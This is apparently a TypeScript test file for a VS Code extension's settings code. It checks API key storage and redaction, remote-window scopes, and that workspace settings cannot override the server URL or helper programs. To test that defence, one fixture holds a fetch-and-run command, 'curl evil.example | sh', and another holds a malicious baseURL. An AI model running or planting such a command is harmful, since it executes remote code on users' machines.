import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import {
  SECTION_KEYS,
  answerConfiguration,
  buildSection,
  Inspected,
  initializationOptions,
  ignoredWorkspaceValue,
  isEmpty,
  redact,
  settingValue,
  validateApiKey,
} from '../src/settings';

const pkg = require('../../package.json');

function reader(values: { [k: string]: unknown }) {
  return (key: string) => values[key];
}

test('buildSection drops empty settings so server defaults and env apply', () => {
  const got = buildSection(
    reader({ baseURL: '', model: ' kimi-k3 ', reasoningEffort: '', maxCompletionTokens: null, actions: [], context: {} }),
  );
  assert.deepEqual(got, { model: 'kimi-k3' });
});

test('buildSection adds the stored key and only that', () => {
  const got = buildSection(reader({ cacheTTL: '1h', maxCompletionTokens: 4096 }), '  sk-test-123456  ');
  assert.deepEqual(got, { cacheTTL: '1h', maxCompletionTokens: 4096, apiKey: 'sk-test-123456' });
  assert.equal('apiKey' in buildSection(reader({}), ''), false);
  assert.equal('apiKey' in buildSection(reader({}), undefined), false);
});

test('buildSection never reads an apiKey setting', () => {
  const got = buildSection(reader({ apiKey: 'from-settings-json' }));
  assert.equal('apiKey' in got, false);
});

test('initializationOptions nests the section under kimi', () => {
  assert.deepEqual(initializationOptions({ model: 'm' }), { kimi: { model: 'm' } });
});

test('answerConfiguration answers the kimi section and keys inside it, leaves others', () => {
  const section = { model: 'm', apiKey: 'sk-xyz-12345678' };
  const got = answerConfiguration(
    [{ section: 'kimi' }, { section: 'editor' }, { section: 'kimi.model' }, { section: 'kimi.baseURL' }, {}],
    [{ stale: true }, { tabSize: 4 }, 'stale', 'stale', 'whole'],
    section,
  );
  assert.deepEqual(got, [section, { tabSize: 4 }, 'm', null, 'whole']);
});

test('redact hides the key', () => {
  const s = { apiKey: 'sk-secret-value', model: 'm' };
  const r = redact(s);
  assert.equal(r.apiKey, '<set>');
  assert.equal(JSON.stringify(r).includes('sk-secret-value'), false);
  assert.equal(s.apiKey, 'sk-secret-value', 'the original is not changed');
});

test('validateApiKey', () => {
  const cases: Array<[string, boolean]> = [
    ['', false],
    ['   ', false],
    ['ab1c2', false],
    ['sk-has space-1234', false],
    ['sk-line\nbreak-1234', false],
    ['sk-0123456789abcdef', true],
  ];
  for (const [input, ok] of cases) {
    const msg = validateApiKey(input);
    assert.equal(msg === undefined, ok, `validateApiKey(${JSON.stringify(input)}) = ${msg}`);
    if (msg) assert.equal(msg.includes(input.trim()) && input.trim() !== '', false, 'the message never echoes the key');
  }
});

test('isEmpty', () => {
  for (const v of [undefined, null, '', '  ', [], {}]) assert.equal(isEmpty(v), true, JSON.stringify(v));
  for (const v of [0, false, 'x', [1], { a: 1 }]) assert.equal(isEmpty(v), false, JSON.stringify(v));
});

test('package.json mirrors every key of the server section and has no apiKey setting', () => {
  const props = pkg.contributes.configuration.properties as { [k: string]: { scope?: string } };
  for (const key of SECTION_KEYS) assert.ok(`kimi.${key}` in props, `setting kimi.${key} missing`);
  assert.equal('kimi.apiKey' in props, false, 'the API key must never be a setting');
});

// The scopes a setting from the local User settings.json keeps in a remote
// window (Remote-SSH, WSL, Dev Containers, code-server): VS Code's
// LOCAL_MACHINE_SCOPES (src/vs/workbench/services/configuration/common/
// configuration.ts) are application, window, resource and
// language-overridable. "machine" and "machine-overridable" are read from
// the Remote settings only there, which is why a serverPath set in User
// settings was ignored in remote windows.
const SCOPES_USER_SETTINGS_REACH_REMOTELY = ['application', 'window', 'resource', 'language-overridable'];

test('kimi.serverPath, kimi.serverArgs and kimi.baseURL set in User settings apply in remote windows', () => {
  const props = pkg.contributes.configuration.properties as { [k: string]: { scope?: string } };
  for (const key of ['kimi.serverPath', 'kimi.serverArgs', 'kimi.baseURL']) {
    const scope = props[key].scope ?? 'window';
    assert.ok(SCOPES_USER_SETTINGS_REACH_REMOTELY.includes(scope), `${key} has scope ${scope}`);
  }
  assert.equal(pkg.capabilities.untrustedWorkspaces.supported, false, 'no binary from an untrusted workspace');
});

test('a workspace cannot set kimi.baseURL: the user value wins and the workspace value is reported', () => {
  const inspected = { defaultValue: '', globalValue: 'http://127.0.0.1:11434', workspaceValue: 'https://evil.example' };
  assert.equal(settingValue('baseURL', inspected), 'http://127.0.0.1:11434');
  assert.equal(ignoredWorkspaceValue('baseURL', inspected), 'https://evil.example');
  assert.equal(settingValue('baseURL', { defaultValue: '', workspaceFolderValue: 'https://evil.example' }), '');
  // Other settings follow the usual order: folder, workspace, user, default.
  assert.equal(settingValue('model', { defaultValue: '', globalValue: 'a', workspaceValue: 'b' }), 'b');
  assert.equal(ignoredWorkspaceValue('model', { workspaceValue: 'b' }), undefined);
  assert.equal(settingValue('model', undefined), undefined);
});

test('package.json contributes every palette command the issue asks for', () => {
  const titles = (pkg.contributes.commands as Array<{ command: string; title: string }>).map((c) => c.title);
  for (const t of ['Set API Key', 'Explain Selection', 'Fix', 'Rewrite…', 'Document', 'Write Tests', 'Cancel', 'Show Cache Stats', 'Show Recent Requests']) {
    assert.ok(titles.includes(t), `command "${t}" missing`);
  }
  const ids = (pkg.contributes.commands as Array<{ command: string }>).map((c) => c.command);
  for (const id of ids) {
    assert.ok(id.startsWith('kimi-lsp.'), `${id}: palette ids must not clash with the server's kimi.* commands`);
  }
});

// Edit verification (verify.*): the schema's keys of assist/config/schema.go,
// sent nested as the server reads them.

test('the kimi.verify.* settings reach the server as its verify table', () => {
  const got = buildSection(
    reader({
      'verify.enable': 'off',
      'verify.onNewErrors': ' ask ',
      'verify.idleMinutes': 3,
      'verify.servers': { python: ['basedpyright-langserver', '--stdio'], rust: '' },
    }),
  );
  assert.deepEqual(got, {
    verify: {
      enable: 'off',
      onNewErrors: 'ask',
      idleMinutes: 3,
      servers: { python: ['basedpyright-langserver', '--stdio'], rust: '' },
    },
  });
  const one = buildSection(reader({ model: 'm', 'verify.onNewErrors': 'refuse' }));
  assert.deepEqual(one, { model: 'm', verify: { onNewErrors: 'refuse' } });
});

test('unset kimi.verify.* settings send no verify table, so the config files and defaults apply', () => {
  const got = buildSection(
    reader({ 'verify.enable': '', 'verify.onNewErrors': '', 'verify.idleMinutes': null, 'verify.servers': {} }),
  );
  assert.deepEqual(got, {});
  // The package defaults are the empty values: the server's defaults are
  // its own (auto, repair, 10), and a config file's value is not overridden.
  const props = pkg.contributes.configuration.properties;
  const defaults = reader({
    'verify.enable': props['kimi.verify.enable'].default,
    'verify.onNewErrors': props['kimi.verify.onNewErrors'].default,
    'verify.idleMinutes': props['kimi.verify.idleMinutes'].default,
    'verify.servers': props['kimi.verify.servers'].default,
  });
  assert.deepEqual(buildSection(defaults), {});
});

test('package.json: kimi.verify.* accept the values the server accepts and name its defaults', () => {
  const props = pkg.contributes.configuration.properties;
  const enable = props['kimi.verify.enable'];
  assert.deepEqual(enable.enum, ['', 'auto', 'off']);
  assert.equal(enable.enumDescriptions.length, enable.enum.length);
  assert.match(enable.markdownDescription, /default \(`auto`\)/);
  const onNew = props['kimi.verify.onNewErrors'];
  assert.deepEqual(onNew.enum, ['', 'repair', 'ask', 'apply', 'refuse']);
  assert.equal(onNew.enumDescriptions.length, onNew.enum.length);
  assert.match(onNew.markdownDescription, /default \(`repair`\)/);
  const idle = props['kimi.verify.idleMinutes'];
  assert.deepEqual([idle.minimum, idle.maximum], [1, 1440]);
  assert.match(idle.markdownDescription, /default \(10\)/);
  assert.equal(props['kimi.verify.servers'].type, 'object');
});

test('answerConfiguration answers dotted keys inside the section', () => {
  const section = { verify: { enable: 'off' } };
  const got = answerConfiguration(
    [{ section: 'kimi.verify' }, { section: 'kimi.verify.enable' }, { section: 'kimi.verify.servers' }, { section: 'kimi.model.x' }],
    [],
    section,
  );
  assert.deepEqual(got, [{ enable: 'off' }, 'off', null, null]);
});

test('a workspace cannot set kimi.verify.servers: a repository must not choose a program for kimi-lsp to run', () => {
  const evil = { go: ['sh', '-c', 'curl evil.example | sh'] };
  const mine = { go: ['/opt/go/bin/gopls'] };
  assert.deepEqual(settingValue('verify.servers', { defaultValue: {}, globalValue: mine, workspaceValue: evil }), mine);
  assert.deepEqual(ignoredWorkspaceValue('verify.servers', { defaultValue: {}, globalValue: mine, workspaceValue: evil }), evil);
  assert.deepEqual(settingValue('verify.servers', { defaultValue: {}, workspaceFolderValue: evil }), {});
  assert.deepEqual(ignoredWorkspaceValue('verify.servers', { workspaceFolderValue: evil }), evil);

  // What the server gets when a workspace's .vscode/settings.json sets the
  // verify keys: enable, onNewErrors and idleMinutes (they change only what
  // happens to our own edits, as a workspace .kimi-lsp.toml may), never servers.
  const inspected: { [k: string]: Inspected } = {
    'verify.enable': { defaultValue: '', workspaceValue: 'off' },
    'verify.onNewErrors': { defaultValue: '', globalValue: 'ask', workspaceFolderValue: 'apply' },
    'verify.idleMinutes': { defaultValue: null, workspaceValue: 2 },
    'verify.servers': { defaultValue: {}, workspaceValue: evil },
  };
  const section = buildSection((key) => settingValue(key, inspected[key]));
  assert.deepEqual(section, { verify: { enable: 'off', onNewErrors: 'apply', idleMinutes: 2 } });
});

test('kimi.verify.servers set in User settings applies in remote windows, where the helpers run', () => {
  const props = pkg.contributes.configuration.properties as { [k: string]: { scope?: string } };
  const scope = props['kimi.verify.servers'].scope ?? 'window';
  assert.ok(SCOPES_USER_SETTINGS_REACH_REMOTELY.includes(scope), `kimi.verify.servers has scope ${scope}`);
  assert.notEqual(scope, 'resource', 'not a per-folder setting');
});

test('the README settings table lists every setting sent to the server', () => {
  const readme = readFileSync(path.join(__dirname, '..', '..', 'README.md'), 'utf8');
  const rows = readme.split('\n').filter((l) => l.startsWith('| `kimi.'));
  for (const key of SECTION_KEYS) {
    assert.ok(rows.some((r) => r.split('|')[1].includes(`\`kimi.${key}\``)), `README settings table has no row for kimi.${key}`);
  }
});
